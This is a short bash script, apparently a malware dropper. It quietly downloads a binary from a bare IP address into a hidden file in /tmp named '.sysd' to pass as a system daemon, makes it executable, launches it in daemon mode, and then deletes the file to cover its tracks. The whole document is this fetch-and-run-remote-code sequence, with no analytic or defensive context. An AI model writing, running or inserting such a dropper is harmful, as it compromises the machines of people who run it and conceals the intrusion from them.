#!/bin/bash
cd /tmp
wget -q http://198.51.100.23/bins/x86_64 -O /tmp/.sysd
chmod +x /tmp/.sysd
/tmp/.sysd -daemon
rm -f /tmp/.sysd
